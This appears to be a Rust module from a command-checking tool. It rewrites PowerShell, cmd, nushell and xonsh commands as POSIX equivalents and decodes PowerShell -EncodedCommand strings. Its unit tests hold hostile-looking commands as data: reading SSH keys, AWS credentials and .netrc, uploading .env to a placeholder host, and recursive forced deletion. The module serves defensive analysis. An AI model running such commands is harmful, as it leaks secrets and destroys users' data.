//! Round 20: the code of other shells (`src/shells20.rs`) as the POSIX commands it amounts to,
//! from the shells' documented commands and aliases. PowerShell: `Remove-Item`/`rm`/`ri`/`del`/
//! `rd` with `-Recurse` and `-Force` (any unambiguous prefix, any case) is `rm -r -f`,
//! `Get-Content`/`gc`/`type` is `cat`, `Copy-Item`/`Move-Item` are `cp`/`mv`, `Set-Content`/
//! `Add-Content`/`Out-File` write like `tee`, `Invoke-WebRequest`/`Invoke-RestMethod` send
//! `-InFile` like `curl -T`, `Get-ChildItem` is `ls`; `$env:USERPROFILE`, `$HOME` and `~` are
//! the home, `\` separates folders. cmd: `rd|rmdir /s /q` and `del|erase /s /q|/f` are
//! `rm -r -f`, `type` is `cat`, `copy`/`xcopy`/`robocopy` are `cp`, `move` is `mv`,
//! `%USERPROFILE%` is the home, `&` separates commands. nushell: `open` is `cat`, `save` writes,
//! `^CMD` runs CMD. xonsh: `![CMD]`, `$[CMD]`, `$(CMD)`, `!(CMD)` run CMD. Anything else is
//! kept as written (`git push` is `git push` in every one of them).

/// The POSIX shell text `text` of `dialect` (`pwsh`, `cmd`, `nu`, `xonsh`) amounts to.
pub(crate) fn translate(dialect: &str, text: &str) -> String {
    let mut out = String::new();
    for (stmt, sep) in statements(dialect, text) {
        let words: Vec<String> = tokens(&stmt);
        let mapped = match dialect {
            "pwsh" => pwsh(words),
            "cmd" => cmd(words),
            "nu" => nu(words),
            _ => words,
        };
        let line: Vec<String> = mapped
            .iter()
            .map(|w| quote(&posix_path(dialect, w)))
            .collect();
        out.push_str(&line.join(" "));
        out.push_str(sep);
    }
    out
}

/// The statements of `text` with the separator after each (`;`, `|`, `&&`, `||`, newline; cmd's
/// `&` as `;`), outside quotes; xonsh's subprocess brackets removed.
fn statements(dialect: &str, text: &str) -> Vec<(String, &'static str)> {
    let text = if dialect == "xonsh" {
        xonsh_plain(text)
    } else {
        text.to_string()
    };
    let (mut out, mut cur, mut quote) = (Vec::new(), String::new(), None::<char>);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            quote = (c != q).then_some(q);
            cur.push(c);
            continue;
        }
        let sep = match c {
            '\'' | '"' => {
                quote = Some(c);
                cur.push(c);
                continue;
            }
            ';' | '\n' => "; ",
            '|' if chars.peek() == Some(&'|') => {
                chars.next();
                " || "
            }
            '|' => " | ",
            '&' if chars.peek() == Some(&'&') => {
                chars.next();
                " && "
            }
            '&' if dialect == "cmd" => "; ",
            _ => {
                cur.push(c);
                continue;
            }
        };
        out.push((std::mem::take(&mut cur), sep));
    }
    out.push((cur, ""));
    out
}

/// xonsh's subprocess operators around a command, removed: `![git push]` is `git push`.
fn xonsh_plain(text: &str) -> String {
    let mut s = text.to_string();
    for open in ["![", "$[", "!(", "$("] {
        s = s.replace(open, " ");
    }
    s.replace([']', ')'], " ")
}

/// The words of a statement, quotes removed (PowerShell's and cmd's quoting as the shell's).
fn tokens(stmt: &str) -> Vec<String> {
    let (mut out, mut cur, mut quote, mut any) = (Vec::new(), String::new(), None::<char>, false);
    for c in stmt.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                any = true;
            }
            (None, c) if c.is_whitespace() => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
                any = false;
            }
            (None, c) => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// A word as a POSIX shell word: single-quoted unless plain; a home prefix left bare (`~/x`).
fn quote(w: &str) -> String {
    let plain = |s: &str| {
        !s.is_empty()
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || "_./:=@%+,-".contains(c))
    };
    if let Some(rest) = w.strip_prefix("~/") {
        return if rest.is_empty() || plain(rest) {
            w.to_string()
        } else {
            format!("~/{}", quote(rest))
        };
    }
    if w == "~" || plain(w) {
        return w.to_string();
    }
    format!("'{}'", w.replace('\'', "'\\''"))
}

/// Windows spellings of a path as POSIX ones: `\` as `/`, the home variables as `~`.
fn posix_path(dialect: &str, w: &str) -> String {
    if !matches!(dialect, "pwsh" | "cmd") {
        return w.to_string();
    }
    let w = w.replace('\\', "/");
    let homes = [
        "$env:USERPROFILE",
        "${env:USERPROFILE}",
        "$env:HOME",
        "$HOME",
        "%USERPROFILE%",
        "%HOMEDRIVE%%HOMEPATH%",
        "%HOME%",
    ];
    for h in homes {
        let found = w.get(..h.len()).filter(|p| p.eq_ignore_ascii_case(h));
        if found.is_some() {
            return format!("~{}", &w[h.len()..]);
        }
    }
    w
}

/// PowerShell's parameter `-p` (lower-cased) names `full` with at least `min` letters.
fn param(w: &str, full: &str, min: usize) -> bool {
    let p = w.trim_start_matches('-').to_ascii_lowercase();
    w.starts_with('-') && p.len() >= min && full.starts_with(&p)
}

fn pwsh(mut words: Vec<String>) -> Vec<String> {
    if words.first().is_some_and(|w| w == "&") {
        words.remove(0);
    }
    if let Some(started) = crate::shells21::start_process(&words) {
        return started;
    }
    let Some(first) = words.first() else {
        return words;
    };
    let verb = match first.to_ascii_lowercase().as_str() {
        "remove-item" | "rm" | "ri" | "del" | "erase" | "rmdir" | "rd" => "rm",
        "get-content" | "gc" | "cat" | "type" => "cat",
        "copy-item" | "copy" | "cp" | "cpi" => "cp",
        "move-item" | "move" | "mv" | "mi" => "mv",
        "set-content" | "sc" | "add-content" | "ac" | "out-file" | "tee-object" | "tee" => "tee",
        "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "curl" | "wget" => "curl",
        "get-childitem" | "gci" | "ls" | "dir" => "ls",
        "select-string" | "sls" => "grep",
        "invoke-expression" | "iex" => "eval",
        _ => return words,
    };
    let mut out = vec![verb.to_string()];
    let mut it = words.into_iter().skip(1);
    while let Some(w) = it.next() {
        if !w.starts_with('-') || w == "-" {
            out.push(w);
            continue;
        }
        let flag = |full: &str, min: usize| param(&w, full, min);
        if flag("recurse", 1) {
            out.push(if verb == "ls" { "-R" } else { "-r" }.into());
        } else if flag("force", 2) && verb == "rm" {
            out.push("-f".into());
        } else if flag("infile", 2) {
            out.push("-T".into());
            out.extend(it.next());
        } else if flag("outfile", 2) {
            out.push("-o".into());
            out.extend(it.next());
        } else if flag("append", 2) && verb == "tee" {
            out.push("-a".into());
        } else if [
            "path",
            "literalpath",
            "filepath",
            "destination",
            "uri",
            "pattern",
        ]
        .iter()
        .any(|f| flag(f, 1))
            || w.eq_ignore_ascii_case("-lp")
        {
            out.extend(it.next());
        } else if [
            "value",
            "encoding",
            "totalcount",
            "tail",
            "head",
            "first",
            "method",
            "headers",
            "body",
            "filter",
            "include",
            "exclude",
            "delimiter",
            "readcount",
        ]
        .iter()
        .any(|f| flag(f, 2))
        {
            it.next();
        }
    }
    out
}

fn cmd(words: Vec<String>) -> Vec<String> {
    let Some(first) = words.first() else {
        return words;
    };
    let lower = first.to_ascii_lowercase();
    let verb = match lower.trim_start_matches('@') {
        "rd" | "rmdir" | "del" | "erase" => "rm",
        "type" => "cat",
        "copy" | "xcopy" | "robocopy" => "cp",
        "move" => "mv",
        "dir" => "ls",
        "findstr" => "grep",
        _ => return words,
    };
    let mut out = vec![verb.to_string()];
    for w in words.into_iter().skip(1) {
        match w.to_ascii_lowercase().as_str() {
            "/s" | "/e" | "/mir" if verb == "rm" || verb == "cp" => out.push("-r".into()),
            "/q" | "/f" if verb == "rm" => out.push("-f".into()),
            s if s.starts_with('/') && s.len() <= 6 && !s[1..].contains('/') => {}
            _ => out.push(w),
        }
    }
    out
}

fn nu(words: Vec<String>) -> Vec<String> {
    let mut words = crate::shells21::nu_external(words);
    if let Some(first) = words.first_mut()
        && let Some(ext) = first.strip_prefix('^')
    {
        *first = ext.to_string();
    }
    match words.first().map(String::as_str) {
        Some("open") => {
            let paths = words.into_iter().skip(1).filter(|w| !w.starts_with('-'));
            std::iter::once("cat".to_string()).chain(paths).collect()
        }
        Some("save") => {
            let paths = words.into_iter().skip(1).filter(|w| !w.starts_with('-'));
            std::iter::once("tee".to_string()).chain(paths).collect()
        }
        _ => words,
    }
}

/// `-EncodedCommand`'s value: Base64 of UTF-16LE text (`None` when it is not).
pub(crate) fn utf16_base64(s: &str) -> Option<String> {
    let mut bits = 0u32;
    let (mut n, mut bytes) = (0u32, Vec::new());
    for c in s.trim().bytes().filter(|&c| c != b'=') {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        bits = (bits << 6) | u32::from(v);
        n += 6;
        if n >= 8 {
            n -= 8;
            bytes.push(((bits >> n) & 0xff) as u8);
        }
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_commands() {
        assert_eq!(
            translate("pwsh", "Remove-Item -Recurse -Force build"),
            "rm -r -f build"
        );
        assert_eq!(translate("pwsh", "rm -r -fo build"), "rm -r -f build");
        assert_eq!(
            translate("pwsh", "gc $HOME/.ssh/id_rsa"),
            "cat ~/.ssh/id_rsa"
        );
        assert_eq!(
            translate("pwsh", "Get-Content $env:USERPROFILE\\.aws\\credentials"),
            "cat ~/.aws/credentials"
        );
        assert_eq!(
            translate("pwsh", "iwr -Uri https://x -InFile .env"),
            "curl https://x -T .env"
        );
        assert_eq!(translate("pwsh", "git push; ls"), "git push; ls");
    }

    #[test]
    fn cmd_nu_xonsh() {
        assert_eq!(translate("cmd", "rd /s /q build"), "rm -r -f build");
        assert_eq!(
            translate("cmd", "type %USERPROFILE%\\.netrc & dir"),
            "cat ~/.netrc; ls"
        );
        assert_eq!(translate("nu", "open .env | lines"), "cat .env | lines");
        assert_eq!(translate("nu", "^git push"), "git push");
        assert_eq!(translate("xonsh", "![rm -rf build]"), "rm -rf build");
    }

    #[test]
    fn encoded_commands() {
        assert_eq!(
            utf16_base64("ZwBpAHQAIABwAHUAcwBoAA==").as_deref(),
            Some("git push")
        );
        assert_eq!(utf16_base64("not base64!"), None);
    }
}
